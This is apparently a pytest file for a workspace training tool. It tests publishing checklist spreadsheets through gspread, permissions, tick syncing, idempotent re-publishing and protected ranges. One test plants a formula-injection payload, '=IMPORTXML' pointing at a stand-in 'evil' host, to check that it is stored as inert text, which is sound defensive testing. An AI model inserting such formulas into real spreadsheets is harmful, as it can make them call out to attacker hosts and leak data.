"""Publish and sync through gspread against the sandbox: sheets in the training shared drive,
shared with the trainee only (and a coach as commenter), ticks read back, no duplicates."""

from __future__ import annotations

import sqlalchemy as sa

from tests.curriculum.conftest import as_user
from workspace_coach.curriculum.marks import current_marks
from workspace_coach.curriculum.publish import (
    APP_KEY,
    HEADER_ROW,
    ID_COL,
    SELF_COL,
    VERIFIED_COL,
    publish,
    sync,
)
from workspace_coach.curriculum.tracks import load_track
from workspace_coach.google import scopes
from workspace_coach.google.clients import GoogleClients
from workspace_coach.storage import models as m
from workspace_coach.storage.clients import client_by_slug

TRACK = load_track("new-member")
ITEM_IDS = [item.id for _, item in TRACK.items()]


def _rows(spreadsheet):
    return {row[ID_COL]: row for row in spreadsheet.sheet1.get_all_values()[HEADER_ROW:]
            if len(row) > ID_COL and row[ID_COL]}


def test_publish_sync_round_trip(world):
    profile, engine = world.profile, world.engine
    coach = f"user05@{profile.domain}"  # a coach who is not the publishing admin
    people = [world.trainee, world.colleague]
    first = publish(profile, engine, TRACK, people=people, coach=coach)
    assert [s.created for s in first.sheets] == [True, True]
    admin = GoogleClients(profile, scopes.PUBLISH)
    drive = admin.service("drive")
    sheet_id = first.sheets[0].spreadsheet_id
    item = drive.files().get(fileId=sheet_id, supportsAllDrives=True,
                             fields="driveId,appProperties,name").execute()
    assert item["driveId"] == first.drive_id
    assert item["appProperties"] == {APP_KEY: "checklist", "track": "new-member",
                                     "person": world.trainee}
    perms = drive.permissions().list(fileId=sheet_id, supportsAllDrives=True,
                                     fields="permissions(role,emailAddress,permissionDetails)"
                                     ).execute()["permissions"]
    direct = {(p["emailAddress"], p["role"]) for p in perms
              if any(not d["inherited"] for d in p["permissionDetails"])}
    inherited = {(p["emailAddress"], p["role"]) for p in perms
                 if all(d["inherited"] for d in p["permissionDetails"])}
    assert direct == {(world.trainee, "writer"), (coach, "commenter")}
    assert inherited == {(profile.admin, "organizer")}  # the drive's only member
    # the colleague cannot open the trainee's sheet
    other = as_user(profile, world.colleague).gspread()
    assert [f["id"] for f in other.list_spreadsheet_files()] == [first.sheets[1].spreadsheet_id]

    # content: every item, evidence ticks, checkboxes as BOOLEAN validation
    trainee_gc = as_user(profile, world.trainee).gspread()
    mine = trainee_gc.open_by_key(sheet_id)
    rows = _rows(mine)
    assert list(rows) == ITEM_IDS
    assert rows["share-for-comment"][VERIFIED_COL] == "TRUE"
    assert rows["share-for-comment"][7].startswith("drive change_user_access")
    assert rows["email-signature"][VERIFIED_COL] == "FALSE"
    assert rows["email-signature"][2] == "Set up your signature"
    assert "public link" in rows["share-with-people-not-links"][8]
    grid = admin.service("sheets").spreadsheets().get(spreadsheetId=sheet_id,
                                                      includeGridData=True).execute()
    data = grid["sheets"][0]["data"][0]["rowData"]
    for r in range(HEADER_ROW, HEADER_ROW + len(ITEM_IDS)):
        for col in (SELF_COL, VERIFIED_COL):
            assert data[r]["values"][col]["dataValidation"]["condition"] == {"type": "BOOLEAN"}

    # the trainee ticks two boxes in their sheet; sync reads them back as self-attestations
    ws = mine.sheet1
    position = {item_id: i + HEADER_ROW + 1 for i, item_id in enumerate(ITEM_IDS)}
    ws.update([[True]], f"E{position['undo-send']}", value_input_option="USER_ENTERED")
    ws.update([[True]], f"E{position['find-team-drive']}", value_input_option="USER_ENTERED")
    from workspace_coach.curriculum.marks import record_mark

    with engine.begin() as conn:  # the coach confirms an item after publishing
        record_mark(conn, client_by_slug(conn, profile.name).id, TRACK, "version-history",
                    world.trainee, kind="override", status="done", marked_by=coach)
    assert _rows(mine)["version-history"][VERIFIED_COL] == "FALSE"
    report = sync(profile, engine, TRACK)
    assert report.sheets == 2 and report.missing == []
    synced = _rows(mine)["version-history"]
    assert synced[VERIFIED_COL] == "TRUE" and synced[6] and coach in synced[7]
    with engine.connect() as conn:
        client_id = client_by_slug(conn, profile.name).id
        marks = current_marks(conn, client_id, "new-member", [world.trainee])
    ticked = {item for (_, item), cm in marks.items()
              if cm.self_mark and cm.self_mark.status == "done" and cm.self_mark.note == "sheet"}
    assert ticked == {"undo-send", "find-team-drive"}
    assert marks[(world.trainee, "undo-send")].self_mark.marked_by == world.trainee
    again = sync(profile, engine, TRACK)
    assert again.marks_added == 0  # nothing changed, nothing recorded

    # re-publish: same sheets, ticks kept, nothing duplicated
    second = publish(profile, engine, TRACK, people=people, coach=coach)
    assert [s.created for s in second.sheets] == [False, False]
    assert [s.spreadsheet_id for s in second.sheets] == [s.spreadsheet_id for s in first.sheets]
    assert second.drive_id == first.drive_id and not second.drive_created
    assert _rows(trainee_gc.open_by_key(sheet_id))["undo-send"][SELF_COL] == "TRUE"
    listed = drive.files().list(corpora="drive", driveId=first.drive_id,
                                includeItemsFromAllDrives=True, supportsAllDrives=True,
                                fields="files(id)").execute()["files"]
    assert len(listed) == 2

    # a crash after creating a sheet but before recording it: found by appProperties
    with engine.begin() as conn:
        conn.execute(sa.delete(m.PublishedSheet).where(
            m.PublishedSheet.person_email == world.colleague))
    third = publish(profile, engine, TRACK, people=[world.colleague], coach=coach)
    assert third.sheets[0].spreadsheet_id == first.sheets[1].spreadsheet_id
    assert not third.sheets[0].created
    with engine.connect() as conn:
        recorded = conn.execute(sa.select(sa.func.count()).select_from(m.PublishedSheet)
                                ).scalar()
    assert recorded == 2


def test_formula_safe_cells(world, monkeypatch):
    """A note starting with '=' lands as text, never as a formula."""
    from workspace_coach.curriculum.marks import record_mark

    with world.engine.begin() as conn:
        client_id = client_by_slug(conn, world.profile.name).id
        record_mark(conn, client_id, TRACK, "labels-and-filters", world.trainee,
                    kind="override", status="done", marked_by=world.profile.admin,
                    note="=IMPORTXML(\"http://evil\")")
    report = publish(world.profile, world.engine, TRACK, people=[world.trainee])
    admin = GoogleClients(world.profile, scopes.PUBLISH).gspread()
    ws = admin.open_by_key(report.sheets[0].spreadsheet_id).sheet1
    formulas = ws.get_all_values(value_render_option="FORMULA")
    assert not any(str(cell).startswith("=") for row in formulas for cell in row)
    assert any("=IMPORTXML" in str(cell) for row in formulas for cell in row)


def test_trainee_can_only_tick(world):
    """The checklist is protected but for the "I did it" boxes: the trainee (a writer of the
    file) ticks, but cannot change an item, the evidence or the headings; a re-publish keeps
    one protection, not two."""
    import gspread
    import pytest

    from workspace_coach.curriculum.publish import PROTECTION

    profile, engine = world.profile, world.engine
    sheet_id = publish(profile, engine, TRACK, people=[world.trainee]).sheets[0].spreadsheet_id
    ws = as_user(profile, world.trainee).gspread().open_by_key(sheet_id).sheet1
    first, last = HEADER_ROW + 1, HEADER_ROW + len(ITEM_IDS)
    ws.update([[True]], f"E{first}", value_input_option="USER_ENTERED")
    ws.update([[True]] * len(ITEM_IDS), f"E{first}:E{last}", value_input_option="USER_ENTERED")
    for cell in (f"C{first}", f"F{first}", f"E{HEADER_ROW}", f"E{last + 1}", "A1"):
        with pytest.raises(gspread.exceptions.APIError) as refused:
            ws.update([["바꿈 changed"]], cell)
        assert refused.value.response.status_code == 400
        assert "protected cell" in str(refused.value)
    with pytest.raises(gspread.exceptions.APIError):
        ws.batch_clear([f"A{first}:J{last}"])
    rows = _rows(ws.spreadsheet)
    assert list(rows) == ITEM_IDS and all(row[SELF_COL] == "TRUE" for row in rows.values())

    publish(profile, engine, TRACK, people=[world.trainee])  # the admin still writes it all
    admin_sheet = GoogleClients(profile, scopes.PUBLISH).gspread().open_by_key(sheet_id)
    protected = admin_sheet.list_protected_ranges(admin_sheet.sheet1.id)
    assert [p["description"] for p in protected] == [PROTECTION]
    assert protected[0]["editors"]["users"] == [profile.admin]
    assert protected[0]["unprotectedRanges"] == [{
        "sheetId": admin_sheet.sheet1.id, "startRowIndex": HEADER_ROW, "endRowIndex": last,
        "startColumnIndex": SELF_COL, "endColumnIndex": SELF_COL + 1}]
